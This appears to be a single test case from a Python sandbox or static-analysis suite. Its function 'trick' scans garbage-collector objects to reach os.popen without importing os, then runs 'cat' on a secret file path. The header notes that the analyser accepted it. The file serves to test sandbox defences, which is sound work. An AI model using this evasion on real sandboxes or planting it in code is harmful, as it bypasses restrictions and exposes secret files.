# trick: searches all objects of the process for the module os
# wants: file
# analysis: accepted
# sandbox: No such file or directory
import gc


def trick(secret: str) -> str:
    for thing in gc.get_objects():
        if isinstance(thing, dict) and "popen" in thing and "fdopen" in thing:
            return thing["popen"](f"cat {secret} 2>&1").read()
    return "no such object"
